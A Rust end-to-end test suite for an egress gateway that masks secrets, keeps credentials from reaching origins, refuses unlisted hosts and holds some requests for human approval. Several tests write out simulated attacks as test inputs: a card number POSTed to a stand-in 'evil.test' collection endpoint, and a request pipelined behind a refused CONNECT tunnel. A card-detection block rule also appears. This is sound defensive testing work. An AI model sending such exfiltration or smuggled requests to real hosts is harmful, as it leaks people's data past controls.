//! Real HTTP clients through both faces, with nothing but the environment that `narrows env` prints.

use std::time::Duration;

use anyhow::{Context, Result, ensure};
use e2e::web::{LARGE_BYTES, MODEL_KEY, RawHttp, Shop, Trust, credentials};
use e2e::{Agent, Output, until};
use serde_json::Value;

/// How long a client that has everything may take to end.
const PATIENCE: Duration = Duration::from_secs(60);
/// How much the gateway may grow while a body of [`LARGE_BYTES`] passes, with all that a process
/// allocates on its first requests.
const GROWTH_MAX: u64 = 32 << 20;

/// Every step of a story went well; names those that did not.
fn told(output: Output, steps: usize) -> Result<()> {
    let told = output.stdout.lines().filter(|line| line.starts_with("ok ")).count();
    let said = output.success()?;
    ensure!(told >= steps, "the story told {told} steps only:\n{said}");
    Ok(())
}

/// Runs a test with a shop; the end of the gateway's log is in what fails.
fn shop(test: impl FnOnce(&Shop) -> Result<()>) -> Result<()> {
    let shop = Shop::start()?;
    test(&shop).with_context(|| format!("the gateway's log ends:\n{}", shop.gateway.log_tail()))?;
    ensure!(!shop.gateway.log().contains("panicked"), "{}", shop.gateway.log_tail());
    Ok(())
}

fn agent(shop: &Shop, group: &str) -> Result<Agent> {
    Agent::new(&shop.gateway, &shop.gateway.token("client", &[group], &[])?)
}

/// What no origin may ever receive: the secrets of its own replies and any token.
fn nothing_leaked(shop: &Shop) -> Result<()> {
    for origin in [&shop.listed, &shop.evil] {
        for wire in origin.wires() {
            for secret in ["nrw_", "4012888888881881", "4012 8888 8888 1881", "NTM2LTIyLTg3MjY"] {
                let found = memchr::memmem::find(&wire.plain, secret.as_bytes());
                ensure!(found.is_none(), "{secret} reached an origin");
            }
        }
        for seen in origin.seen() {
            // The heads of HTTP/2 are compressed in the bytes of a connection.
            let text = format!("{} {:?}", seen.target, seen.fields);
            ensure!(!text.contains("nrw_"), "a token reached an origin: {text}");
        }
    }
    ensure!(shop.evil.seen().is_empty(), "a host that is not listed was reached");
    Ok(())
}

fn story(client: &str) -> Result<()> {
    shop(|shop| {
        let agent = agent(shop, "agents")?.env("CLIENT", client);
        told(agent.python("http_story.py", &[])?, 9)?;
        nothing_leaked(shop)
    })
}

#[test]
fn p3_p9_curl_gets_masked_replies_and_is_refused_what_rules_forbid() -> Result<()> {
    story("curl")
}

#[test]
fn p3_p9_httpx_gets_masked_replies_and_is_refused_what_rules_forbid() -> Result<()> {
    story("httpx")
}

#[test]
fn p3_p9_httpx_over_http2_gets_masked_replies_and_is_refused_what_rules_forbid() -> Result<()> {
    story("httpx2")
}

#[test]
fn p3_p9_requests_gets_masked_replies_and_is_refused_what_rules_forbid() -> Result<()> {
    story("requests")
}

#[test]
fn p3_p9_aiohttp_gets_masked_replies_and_is_refused_what_rules_forbid() -> Result<()> {
    story("aiohttp")
}

#[test]
fn p3_p9_urllib_gets_masked_replies_and_is_refused_what_rules_forbid() -> Result<()> {
    story("urllib")
}
#[test]
fn p3_p9_node_fetch_gets_masked_replies_and_is_refused_what_rules_forbid() -> Result<()> {
    shop(|shop| {
        told(agent(shop, "agents")?.node("http_story.js", &[])?, 6)?;
        nothing_leaked(shop)
    })
}

#[test]
fn p3_p7_openai_asks_and_streams_and_neither_side_sees_what_is_masked() -> Result<()> {
    shop(|shop| {
        told(agent(shop, "agents")?.python("openai_story.py", &[])?, 8)?;
        nothing_leaked(shop)?;
        for seen in shop.listed.seen() {
            let text = format!("{:?}", seen.body);
            ensure!(!text.contains("536-22-8726"), "a prompt carried what is masked: {text}");
            let key = seen.fields.get("authorization").map(|key| key.as_bytes());
            let wanted = if seen.server_name.as_deref() == Some("localhost") {
                MODEL_KEY.as_bytes()
            } else {
                b"Bearer sk-of-the-client"
            };
            ensure!(key == Some(wanted), "the key at {:?}", seen.server_name);
        }
        Ok(())
    })
}

#[test]
fn p7_a_host_with_a_credential_gets_no_other_one_and_nobody_else_gets_it() -> Result<()> {
    shop(|shop| {
        told(agent(shop, "agents")?.python("credential_story.py", &[])?, 3)?;
        nothing_leaked(shop)?;
        let keys: Vec<(String, String)> = shop
            .listed
            .seen()
            .into_iter()
            .map(|seen| {
                let key = seen.fields.get("authorization").and_then(|key| key.to_str().ok());
                (seen.host, key.unwrap_or_default().to_owned())
            })
            .collect();
        let own = "Bearer sk-of-the-client";
        let wanted = [
            ("keyed.test", MODEL_KEY),
            ("keyed.test", MODEL_KEY),
            ("keyed.test:8443", own),
            ("listed.test", own),
        ];
        let wanted = wanted.map(|(host, key)| (host.to_owned(), key.to_owned()));
        ensure!(keys == wanted, "{keys:?}");
        Ok(())
    })
}

#[test]
fn p2_p9_what_is_sent_before_a_tunnel_is_granted_is_judged_like_the_rest() -> Result<()> {
    shop(|shop| {
        let token = shop.gateway.token("client", &["agents"], &[])?;
        let proxy = ([127, 0, 0, 1], shop.gateway.ports().egress).into();
        let ca = shop.gateway.dir().join("var/ca/ca.pem");
        let client = |host: &str| {
            let client = RawHttp::to(proxy).tunnel(&format!("{host}:443"), &token.secret).eager();
            client.tls(Some(host), Trust::File(ca.clone()))
        };
        let asked = |host: &str, line: &str, body: &str| {
            let (length, end) = (body.len(), "connection: close\r\n\r\n");
            format!("{line} HTTP/1.1\r\nhost: {host}\r\ncontent-length: {length}\r\n{end}{body}")
        };
        let get = asked("listed.test", "GET /customers", "");
        let reply = client("listed.test").send(&[get.into()])?;
        ensure!(reply.status() == 200 && reply.text().contains("REDACTED"), "{}", reply.text());
        let post = asked("evil.test", "POST /collect", "4012 8888 8888 1881");
        let reply = client("evil.test").send(&[post.into()])?;
        ensure!(reply.status() == 403, "{}", reply.text());
        // Behind a tunnel that is refused, as if it were the next request of the proxy's client.
        let head = "CONNECT listed.test:443 HTTP/1.1\r\nhost: listed.test:443\r\n\r\n";
        let proof = credentials(&token.secret);
        let next = format!(
            "GET http://listed.test/customers HTTP/1.1\r\nhost: listed.test\r\n\
             proxy-authorization: {proof}\r\n\r\n"
        );
        // The second time nothing is sent, and whatever else comes is read.
        let reply = RawHttp::to(proxy).send(&[format!("{head}{next}").into(), Vec::new()])?;
        ensure!(reply.status() == 407, "{}", reply.text());
        ensure!(reply.text().matches("HTTP/1.1").count() == 1, "{}", reply.text());
        ensure!(shop.listed.seen().len() == 1, "{:?}", shop.listed.seen());
        nothing_leaked(shop)
    })
}

#[test]
fn p7_a_host_that_shows_its_credential_shows_it_to_nobody_and_no_file() -> Result<()> {
    shop(|shop| {
        let token = shop.gateway.token("client", &["agents"], &[])?;
        let proxy = ([127, 0, 0, 1], shop.gateway.ports().egress).into();
        let ca = shop.gateway.dir().join("var/ca/ca.pem");
        let client = RawHttp::to(proxy).tunnel("keyed.test:443", &token.secret);
        let client = client.tls(Some("keyed.test"), Trust::File(ca));
        let request = "GET /mirror HTTP/1.1\r\nhost: keyed.test\r\naccept-encoding: gzip\r\n\
                       connection: close\r\n\r\n";
        let reply = client.send(&[request.into()])?;
        let said = reply.text();
        ensure!(!said.contains("sk-upstream-key"), "{said}");
        let seen = shop.listed.seen();
        let field = |name: &str| {
            let value = seen.first().and_then(|seen| seen.fields.get(name));
            value.and_then(|value| value.to_str().ok()).unwrap_or_default().to_owned()
        };
        ensure!(field("authorization") == MODEL_KEY, "it was not sent: {seen:?}");
        ensure!(field("accept-encoding") == "identity", "what it shows can be seen");
        let grep = std::process::Command::new("grep")
            .args(["-rlaF", "sk-upstream-key"])
            .arg(shop.gateway.dir())
            .output()?;
        ensure!(grep.stdout.is_empty(), "{}", String::from_utf8_lossy(&grep.stdout));
        let session = shop.gateway.session_of("client")?;
        let id = session.get("id").and_then(Value::as_str).context("a session")?;
        let shown = shop.gateway.show(id)?.to_string();
        ensure!(shown.contains("credential_shown"), "{shown}");
        Ok(())
    })
}

#[test]
fn p9_http2_with_trailers_on_both_sides_passes_unchanged() -> Result<()> {
    shop(|shop| {
        told(agent(shop, "agents")?.python("grpc_story.py", &[])?, 2)?;
        let seen = shop.listed.seen();
        ensure!(seen.len() == 2, "{} requests", seen.len());
        for seen in seen {
            let sum = seen.trailers.as_ref().and_then(|trailers| trailers.get("x-sum"));
            ensure!(sum.is_some_and(|sum| sum == "7"), "{:?}", seen.trailers);
            ensure!(&*seen.body == b"\0\0\0\0\x05hello", "{:?}", seen.body);
            ensure!(seen.fields.get("te").is_some_and(|te| te == "trailers"), "{:?}", seen.fields);
        }
        Ok(())
    })
}

#[test]
fn p8_large_bodies_pass_in_bounded_memory() -> Result<()> {
    shop(|shop| {
        // Nobody's rule reads the bodies of this group.
        let agent = agent(shop, "loaders")?;
        told(agent.python("http_more.py", &["many_on_one_connection"])?, 1)?;
        let before = shop.gateway.memory_peak()?;
        told(agent.python("http_more.py", &["large_downloads", "large_uploads"])?, 2)?;
        let grown = shop.gateway.memory_peak()?.saturating_sub(before);
        ensure!(grown < GROWTH_MAX, "the gateway grew by {} MiB", grown >> 20);
        let bodies = shop.listed.seen().into_iter().filter(|seen| seen.path() == "/upload");
        let whole = bodies.filter(|seen| seen.body.len() == LARGE_BYTES).count();
        ensure!(whole == 3, "{whole} uploads arrived");
        Ok(())
    })
}

#[test]
fn p2_p8_long_bodies_are_judged_in_parts_in_bounded_memory() -> Result<()> {
    shop(|shop| {
        shop.add_rule(
            "\n  - { name: no-cards, on: [files], block: cards stay here,\n      \
             when: '\"CREDIT_CARD\" in http.detections' }\n",
        )?;
        let agent = agent(shop, "loaders")?;
        told(agent.python("http_more.py", &["many_on_one_connection"])?, 1)?;
        let before = shop.gateway.memory_peak()?;
        told(agent.python("http_more.py", &["long_uploads_in_parts"])?, 1)?;
        let grown = shop.gateway.memory_peak()?.saturating_sub(before);
        // What searches keeps some memory for the next, on each thread; the body is longer than that.
        ensure!(grown < 2 * GROWTH_MAX, "the gateway grew by {} MiB", grown >> 20);
        told(agent.python("http_more.py", &["stolen_uploads_in_parts"])?, 1)?;
        let seen = shop.listed.seen();
        let uploads: Vec<_> = seen.iter().filter(|seen| seen.path() == "/upload").collect();
        let complete = uploads.iter().filter(|seen| seen.complete && seen.body.len() > 8 << 20);
        ensure!(complete.count() == 2, "{} arrived", uploads.len());
        // What was before the card left; no host takes it for the whole.
        let cut = uploads.iter().filter(|seen| !seen.complete).count();
        ensure!(cut == 6 && uploads.len() == 8, "{cut} of {} are cut", uploads.len());
        nothing_leaked(shop)
    })
}

#[test]
fn p3_p8_a_hundred_requests_at_once_are_answered_and_masked() -> Result<()> {
    shop(|shop| {
        told(agent(shop, "agents")?.python("http_more.py", &["a_hundred_at_once"])?, 1)?;
        ensure!(shop.listed.seen().len() == 400, "{} arrived", shop.listed.seen().len());
        let sessions = shop.gateway.json(&["sessions", "--principal", "client"])?;
        let sessions = sessions.as_array().context("a list")?;
        let operations =
            sessions.iter().filter_map(|one| one.get("operations").and_then(Value::as_u64));
        ensure!(sessions.len() == 2, "one per resource: {sessions:?}");
        ensure!(operations.sum::<u64>() == 400, "each is recorded: {sessions:?}");
        Ok(())
    })
}

#[test]
fn p10_connections_are_kept_and_used_again_on_both_sides() -> Result<()> {
    shop(|shop| {
        let agent = agent(shop, "agents")?;
        told(agent.python("http_more.py", &["many_on_one_connection"])?, 1)?;
        let seen = shop.listed.seen();
        ensure!(seen.len() == 60, "{} requests", seen.len());
        let mut connections: Vec<usize> = seen.iter().map(|seen| seen.connection).collect();
        connections.sort_unstable();
        connections.dedup();
        ensure!(connections.len() <= 4, "upstream connections: {connections:?}");
        Ok(())
    })
}

#[test]
fn p1_a_held_request_is_sent_once_a_person_says_yes_and_never_after_a_no() -> Result<()> {
    shop(|shop| {
        let ops = shop.gateway.person("grace", "ops")?;
        for face in ["reverse", "tunnel"] {
            let agent = agent(shop, "cautious")?.env("FACE", face);
            let before = shop.listed.seen().len();
            for (answer, step) in [
                ("approve", "a_held_request_waits_for_a_person"),
                ("deny", "a_denied_request_is_an_exception"),
            ] {
                let client = agent.start_python("http_more.py", &[step])?;
                let id = shop.gateway.pending()?;
                let orders = shop.listed.seen().len() - before;
                ensure!(orders == usize::from(answer == "deny"), "{face}: it did not wait");
                let words = [answer, &id, "--reason", "tested", "--token", &ops.secret];
                shop.gateway.narrows(&words)?.success()?;
                told(client.output(PATIENCE)?, 1).with_context(|| face.to_owned())?;
            }
            ensure!(shop.listed.seen().len() - before == 1, "{face}: what was denied was sent");
        }
        Ok(())
    })
}

#[test]
fn p2_a_killed_session_cuts_the_reply_that_is_under_way() -> Result<()> {
    shop(|shop| {
        for (face, resource) in [("reverse", "api"), ("tunnel", "internet")] {
            let agent = agent(shop, "agents")?.env("FACE", face);
            let client =
                agent.start_python("http_more.py", &["a_killed_session_cuts_its_reply"])?;
            // Not when the request arrives: a kill before the reply's head is answered with 403.
            let id = until("the reply is under way", || {
                let sessions = shop.gateway.json(&["sessions", "--live"])?;
                let of = |one: &&Value| {
                    one.get("resource").and_then(Value::as_str) == Some(resource)
                        && one.get("bytes").and_then(Value::as_u64) > Some(0)
                };
                let found = sessions.as_array().context("a list")?.iter().find(of);
                Ok(found.and_then(|one| Some(one.get("id")?.as_str()?.to_owned())))
            })?;
            shop.gateway.narrows(&["kill", &id])?.success()?;
            told(client.output(PATIENCE)?, 1).with_context(|| face.to_owned())?;
        }
        Ok(())
    })
}

#[test]
fn p2_a_revoked_token_opens_nothing_on_any_face() -> Result<()> {
    shop(|shop| {
        let token = shop.gateway.agent("gone")?;
        let agent = Agent::new(&shop.gateway, &token)?;
        told(agent.python("http_more.py", &["many_on_one_connection"])?, 1)?;
        let before = shop.listed.seen().len();
        shop.gateway.narrows(&["token", "revoke", &token.id])?.success()?;
        told(agent.python("http_more.py", &["a_revoked_token_opens_nothing"])?, 1)?;
        ensure!(shop.listed.seen().len() == before, "something was sent");
        Ok(())
    })
}

#[test]
fn p2_a_reloaded_rule_holds_on_connections_that_are_open() -> Result<()> {
    shop(|shop| {
        let step = "a_new_rule_holds_for_the_next_request_on_the_same_connection";
        let client = agent(shop, "agents")?.start_python("http_more.py", &[step])?;
        until("a request was answered", || Ok((!shop.listed.seen().is_empty()).then_some(())))?;
        shop.add_rule(
            "  - name: closed\n    on: [internet]\n    when: http.path == \"/customers\"\n    \
             block: closed\n",
        )?;
        told(client.output(PATIENCE)?, 1)
    })
}

#[test]
fn p2_p8_large_requests_that_are_refused_are_answered_and_what_waits_is_asked_for() -> Result<()> {
    shop(|shop| {
        let steps =
            ["what_is_too_long_to_be_judged_is_refused", "an_upload_that_waits_to_be_asked_for"];
        told(agent(shop, "agents")?.python("http_more.py", &steps)?, 2)?;
        let step = "what_its_head_refuses_is_answered_while_it_is_sent";
        told(agent(shop, "loaders")?.python("http_more.py", &[step])?, 1)?;
        let uploads = shop.listed.seen().iter().filter(|seen| seen.path() == "/upload").count();
        ensure!(uploads == 0, "{uploads} were sent");
        nothing_leaked(shop)
    })
}

#[test]
fn p7_p9_redirects_cookies_and_replies_without_a_body_are_what_clients_expect() -> Result<()> {
    shop(|shop| {
        let steps = [
            "redirects_stay_in_the_resource",
            "cookies_stay_in_the_resource",
            "replies_without_a_body",
        ];
        told(agent(shop, "agents")?.python("http_more.py", &steps)?, 3)?;
        let model = shop.listed.seen().into_iter().find(|seen| seen.path() == "/v1/models");
        let cookie = model.context("the model was asked")?.fields.get("cookie").cloned();
        ensure!(cookie.is_none(), "a cookie of another resource: {cookie:?}");
        nothing_leaked(shop)
    })
}

#[test]
fn p8_replies_that_nobody_reads_wait_at_their_origin() -> Result<()> {
    shop(|shop| {
        let agent = agent(shop, "loaders")?;
        told(agent.python("http_more.py", &["many_on_one_connection"])?, 1)?;
        let before = shop.gateway.memory_peak()?;
        told(agent.python("http_more.py", &["replies_that_nobody_reads"])?, 1)?;
        let grown = shop.gateway.memory_peak()?.saturating_sub(before);
        // Twenty at a time, each with its connection's or stream's windows on both sides.
        ensure!(grown < 4 * GROWTH_MAX, "the gateway grew by {} MiB", grown >> 20);
        Ok(())
    })
}

#[test]
fn check_counts_resources_of_every_type() -> Result<()> {
    shop(|shop| {
        let said = shop.gateway.narrows(&["check"])?.success()?;
        ensure!(said.contains("5 rules, 4 resources"), "{said}");
        Ok(())
    })
}
